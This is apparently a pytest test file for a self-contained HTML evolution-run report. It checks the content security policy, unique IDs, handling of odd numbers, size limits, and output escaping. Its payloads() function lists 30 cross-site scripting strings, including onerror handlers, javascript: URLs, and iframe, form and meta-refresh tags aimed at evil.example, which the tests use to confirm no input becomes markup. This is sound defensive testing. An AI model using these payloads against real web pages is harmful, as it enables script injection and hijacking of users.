"""The report: complete, one file, safe, small, and never broken by what a run contains."""

from __future__ import annotations

import base64
import dataclasses
import hashlib
import math
import re
from collections import Counter
from dataclasses import replace
from html.parser import HTMLParser
from typing import Any

import pytest

from evodevo.backbone.diagrams.genome import Arc, LivMark
from evodevo.backbone.draw import BackboneDrawing
from evodevo.backbone.report import BackboneParts
from evodevo.report.charts.axes import Axis
from evodevo.report.charts.curves import Series
from evodevo.runs.report.data import (
    EvolutionReport,
    Reference,
    ReferenceResult,
    ReportedBaseline,
    ReportedIndividual,
    ReportedObjective,
    RunFacts,
)
from evodevo.runs.report.page import LIMIT_BYTES, evolution_report

VOID = {"meta", "br", "hr", "img", "input", "link", "base", "col", "embed", "source", "area", "wbr"}
ALLOWED = {
    *("html", "head", "meta", "title", "style", "body", "header", "nav", "main", "section", "footer", "div", "span"),
    *("h1", "h2", "h3", "p", "a", "b", "code", "pre", "figure", "figcaption", "details", "summary"),
    *("table", "caption", "thead", "tbody", "tr", "th", "td"),
    *("svg", "g", "rect", "line", "path", "circle", "text"),
}


class Page(HTMLParser):
    """What a browser would see: tags, attributes, text, and whether every tag is closed."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: Counter[str] = Counter()
        self.attributes: list[tuple[str, str, str]] = []
        self.classes: Counter[str] = Counter()
        self.texts: list[str] = []
        self.style = ""
        self.open: list[str] = []
        self.feed(html)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] += 1
        for name, value in attrs:
            self.attributes.append((tag, name, value or ""))
            if name == "class":
                self.classes.update((value or "").split())
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        if self.open and self.open[-1] == "style":
            self.style += data
        else:
            self.texts.append(data)

    @property
    def text(self) -> str:
        return " ".join(" ".join(self.texts).split())


def evolution_page(data: EvolutionReport) -> str:
    """The page, with the parts of backbones."""
    return evolution_report(data, BackboneParts())


@pytest.fixture(scope="module")
def html(sample_report: EvolutionReport) -> str:
    return evolution_page(sample_report)


def test_the_file_needs_nothing_from_outside(html: str) -> None:
    page = Page(html)
    assert not re.search(r"https?:|url\(|@import|<script|<link|<iframe|<img|<object|<embed", html, re.IGNORECASE)
    assert set(page.tags) <= ALLOWED
    links = [value for tag, name, value in page.attributes if name in ("href", "src")]
    assert links
    assert all(link.startswith("#") for link in links)
    targets = {value for _, name, value in page.attributes if name == "id"}
    assert {link[1:] for link in links} <= targets


def test_the_policy_allows_the_one_style_sheet_and_nothing_else(html: str) -> None:
    page = Page(html)
    (policy,) = (
        value for tag, name, value in page.attributes if tag == "meta" and name == "content" and "default-src" in value
    )
    digest = base64.b64encode(hashlib.sha256(page.style.encode()).digest()).decode()
    assert policy == f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"
    assert page.tags["style"] == 1
    assert not [name for _, name, _ in page.attributes if name == "style" or name.startswith("on")]
    # The policy stands before anything that it governs.
    assert html.index("Content-Security-Policy") < html.index("<style")


def test_ids_are_unique(html: str) -> None:
    ids = Counter(value for _, name, value in Page(html).attributes if name == "id")
    assert max(ids.values()) == 1


def test_arcs_on_the_page_are_the_arcs_of_the_front(sample_report: EvolutionReport, html: str) -> None:
    drawn = [i.genome for i in sample_report.individuals if i.state == "front" and i.genome]
    drawn += [b.genome for b in sample_report.baselines if b.genome]
    classes = Page(html).classes
    assert classes["feature-arc"] == sum(len(b.feature_arcs) for b in drawn) > 0
    assert classes["featurizer-arc"] == sum(len(b.featurizer_arcs) for b in drawn) > 0


def test_everything_of_the_run_is_on_the_page(sample_report: EvolutionReport, html: str) -> None:
    page = Page(html)
    for individual in sample_report.individuals:
        assert individual.id[:8] in page.text
    for baseline in sample_report.baselines:
        assert baseline.name in page.text
    for word in (
        "54 of 60 runs stable (90 %)",
        "hypervolume",
        "backbone.small",
        "evodevo evolve",
        "no GPU",
        "torch 2.11.0",
    ):
        assert word in page.text
    assert page.text.count("RuntimeError: loss is nan at step 12") >= 6
    assert "151.0 MB" in page.text
    assert "1.790 (1.770 to 1.820)" in page.text
    assert page.classes["curve"] == 60
    assert page.classes["edge"] == sum(len(i.parents) for i in sample_report.individuals)


def test_the_reference_says_who_beats_it(sample_report: EvolutionReport, html: str) -> None:
    assert sample_report.reference is not None
    values = [result.value for result in sample_report.reference.results]
    page = Page(html)
    beaten = sum(value is not None and value < 1.92 for value in values)
    assert f"{beaten} of {len(values)} models beat it" in page.text
    assert page.text.count("does not beat it") == len(values) - beaten
    assert "no token mixer in its second half" in page.text


def test_dominance_over_a_baseline_is_judged_in_all_objectives() -> None:
    objectives = (ReportedObjective("loss"), ReportedObjective("accuracy", minimise=False))

    def words(loss: float | None, accuracy: float) -> str:
        best = ReportedIndividual("abcdefgh", 0, "front", {"loss": loss, "accuracy": accuracy})
        base = ReportedBaseline("base", {"loss": 1.0, "accuracy": 0.5})
        return Page(evolution_page(EvolutionReport(RunFacts("r"), objectives, [best], [base]))).text

    assert "1 of 1 on the front dominates base in loss and accuracy: abcdefgh" in words(0.9, 0.5)
    assert "None on the front dominates base" in words(1.0, 0.5)
    assert "None on the front dominates base" in words(0.9, 0.4)
    assert "None on the front dominates base" in words(None, 0.9)


@pytest.mark.parametrize("bad", [math.nan, math.inf, -math.inf, None, 10**400, 5e-324, 1e308])
def test_any_number_survives_everywhere(sample_report: EvolutionReport, bad: Any) -> None:
    changed = [
        replace(
            i,
            scores=dict.fromkeys(i.scores, bad) if n % 3 else i.scores,
            spreads={"quality": (bad if bad is not None else math.nan, 2.0)} if n % 2 else {},
            seconds=bad,
            curve=[(float(x), bad) for x in range(3)],
        )
        for n, i in enumerate(sample_report.individuals)
    ]
    data = replace(
        sample_report,
        individuals=changed,
        hypervolume=[(0, bad), (1, 0.5), (2, bad)],
        baselines=[replace(sample_report.baselines[0], scores={"quality": bad})],
        reference=Reference("bigram", bad, results=[ReferenceResult("x", bad)]),
        hypervolume_others=[Series("o", [(0, bad)])],
    )
    page = Page(evolution_page(data))
    assert not [
        value
        for _, name, value in page.attributes
        if name not in ("aria-label", "content") and re.search(r"\b(nan|inf)\b", value)
    ]


def test_an_empty_run_has_a_page() -> None:
    page = Page(evolution_page(EvolutionReport(RunFacts("r0"), [])))
    assert "No individual was evaluated" in page.text
    page = Page(
        evolution_page(
            EvolutionReport(RunFacts("r0"), [ReportedObjective("quality"), ReportedObjective("cache", "bytes")])
        )
    )
    assert "No individual has been scored yet" in page.text


def test_one_individual_has_a_page(sample_report: EvolutionReport) -> None:
    one = next(i for i in sample_report.individuals if i.state == "front")
    page = Page(evolution_page(replace(sample_report, individuals=[one], picks={"knee": one.id})))
    assert "1 on the front" in page.text


def test_one_objective_is_drawn_over_the_generations(sample_report: EvolutionReport) -> None:
    page = Page(evolution_page(replace(sample_report, objectives=sample_report.objectives[:1])))
    assert "by generation of birth" in page.text
    assert page.classes["front-line"] == 0


def test_all_failed_says_so(sample_report: EvolutionReport) -> None:
    failed = [
        replace(i, state="failed", scores={}, spreads={}, reason="memory", detail="", curve=(), curve_state="failed")
        for i in sample_report.individuals
    ]
    page = Page(evolution_page(replace(sample_report, individuals=failed, hypervolume=(), picks={})))
    assert "No evaluation succeeded" in page.text
    assert "60 of 60 evaluations failed" in page.text


def test_failures_without_a_reason_are_counted() -> None:
    data = EvolutionReport(
        RunFacts("r"),
        [ReportedObjective("q")],
        [ReportedIndividual("a", 0, "failed"), ReportedIndividual("b", 0, "failed")],
    )
    assert "unknown 2" in Page(evolution_page(data)).text


@pytest.mark.slow
def test_a_large_run_stays_under_the_limit_and_says_what_was_left_out(sample_report: EvolutionReport) -> None:
    many = []
    for copy in range(40):
        for i in sample_report.individuals:
            curve = [(float(x), 2.0 + math.sin(x + copy)) for x in range(1500)]
            many.append(replace(i, id=f"{copy:04d}{i.id}", detail="x" * 4000, curve=curve))
    html = evolution_page(replace(sample_report, individuals=many))
    assert len(html.encode()) <= LIMIT_BYTES
    text = Page(html).text
    assert "Reduced to keep this file under 5 MB" in text
    assert re.search(r"first [\d,]+ of 2,400", text)


# Safety: every text field of every dataclass


def payloads() -> list[str]:
    parts = ["<script>alert({n})</script>", "</{tag}><script>alert({n})</script>", "\"'><img src=x onerror=alert({n})>"]
    tags = ["title", "style", "textarea", "pre", "svg", "table"]
    made = [parts[1].format(tag=tag, n=n) for n, tag in enumerate(tags)]
    made += [parts[0].format(n=9), parts[2].format(n=10)]
    made += [
        "' onclick='alert(1)",
        '" onmouseover="alert(1)',
        "<svg/onload=alert(1)>",
        "<svg><style><img src=x onerror=alert(1)></style>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href=data:text/html,<script>alert(1)</script>>x</a>",
        "<iframe src=//evil.example></iframe>",
        "<object data=//evil.example></object>",
        "<embed src=//evil.example>",
        "<link rel=stylesheet href=//evil.example>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<base href=//evil.example>",
        "<form action=//evil.example><input name=q></form>",
        "<!--><img src=x onerror=alert(1)>-->",
        "]]><script>alert(1)</script>",
        "<?xml version='1.0'?><script>alert(1)</script>",
        "&lt;img src=x onerror=alert(1)&gt;",
        "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
        "\x00<\x00script>alert(1)</script>",
        "\x1b]52;c;aGk=\x07\u202e<script>alert(1)</script>\ud800",
    ]
    return made


def poisoned(text: str) -> EvolutionReport:
    livs = [LivMark(text, "attention", False, text, text), LivMark(text, text, True, text, text)]
    arcs = [Arc(0, 1, text, text)]
    backbone = BackboneDrawing(livs, arcs, arcs, arcs, text, [text])
    common: dict[str, Any] = {"operation": text, "genome": backbone, "text": text, "curve": [(0, 2.0), (1, 1.0)]}
    individuals = [
        ReportedIndividual(text, 0, "front", {text: 1.0, "second": 2.0}, {text: (0.9, 1.1)}, **common),
        ReportedIndividual(text + "b", 1, "dominated", {text: 2.0, "second": 3.0}, parents=(text, text), **common),
        ReportedIndividual(text + "c", 1, "failed", {}, reason=text, detail=text, curve_state="failed", **common),
    ]
    return EvolutionReport(
        RunFacts(text, text, text, text, text, text, text, text, text, {text: text}, {text: [text]}, {text: text}),
        [ReportedObjective(text, text), ReportedObjective("second", text)],
        individuals,
        [ReportedBaseline(text, {text: 1.0, "second": 2.5}, {text: (0.5, 1.5)}, 2, backbone)],
        Reference(text, 1.5, text, [ReferenceResult(text, 1.0, text)], text),
        [(0, 1.0), (1, 2.0)],
        [Series(text, [(0, 1.0)])],
        {text: 3.0},
        {1: [text]},
        {text: text},
        Axis(text, text),
        Axis(text, text),
        [text],
    )


def test_there_are_thirty_payloads_and_they_fill_every_text_field() -> None:
    assert len(payloads()) == len(set(payloads())) == 30
    text = "P4YL04D"
    data = poisoned(text)
    for part in (data.run, data.objectives[0], data.individuals[2], data.baselines[0], data.reference):
        for field in dataclasses.fields(part):  # type: ignore[arg-type]
            value = getattr(part, field.name)
            if isinstance(value, str) and field.name not in ("state", "curve_state"):
                assert text in value, (type(part), field.name)


@pytest.mark.parametrize("payload", payloads())
def test_no_text_becomes_markup(payload: str) -> None:
    page, plain = Page(evolution_page(poisoned(payload))), Page(evolution_page(poisoned("plain")))
    assert set(page.tags) <= ALLOWED
    for tag in ("script", "style", "section", "table", "tr", "td", "a", "details", "figure", "svg", "pre", "meta"):
        assert page.tags[tag] == plain.tags[tag], tag
    assert not [
        name for _, name, _ in page.attributes if name.startswith("on") or name in ("src", "style", "srcdoc", "action")
    ]
    assert all(value.startswith("#") for _, name, value in page.attributes if name == "href")
    assert {name for _, name, _ in page.attributes} <= {name for _, name, _ in plain.attributes}


def test_terminal_controls_and_direction_overrides_are_visible() -> None:
    html = evolution_page(poisoned("\x1b[31m\x9b\u202eabc\x07"))
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", html)
    assert "\\x1b[31m\\x9b\\u202eabc\\x07" in html


def test_equal_data_give_equal_bytes(sample_report: EvolutionReport, html: str) -> None:
    assert evolution_page(sample_report) == html
